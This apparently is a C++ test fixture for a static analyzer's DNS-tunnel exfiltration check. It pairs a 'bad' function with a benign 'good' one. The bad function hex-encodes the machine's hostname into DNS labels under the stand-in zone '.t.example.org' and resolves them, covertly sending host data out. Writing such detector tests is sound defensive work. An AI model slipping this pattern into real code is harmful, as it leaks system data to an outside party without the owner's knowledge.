/* C++: a class cuts what it is given into labels of a name, and asks for that. */
#include <memory>
#include <netdb.h>
#include <string>
#include <unistd.h>

namespace {

class Carrier {
  public:
    explicit Carrier(const char *domain) : zone(domain) {}
    void carry(const std::string &text) const {
        std::string name;
        for (char c : text) {
            name.push_back(static_cast<char>('a' + ((c >> 4) & 15)));
            name.push_back(static_cast<char>('a' + (c & 15)));
        }
        name += zone;
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
        gethostbyname(name.c_str());
    }

  private:
    std::string zone;
};

} // namespace

void bad_start() {
    char host[65] = {};
    gethostname(host, sizeof host - 1);
    auto carrier = std::make_unique<Carrier>(".t.example.org");
    carrier->carry(host);
}

/* Asks for its own name, as it is: what the resolver knows already. */
bool good_start() {
    char host[65] = {};
    gethostname(host, sizeof host - 1);
    std::string name(host);
    return gethostbyname(name.c_str()) != nullptr;
}
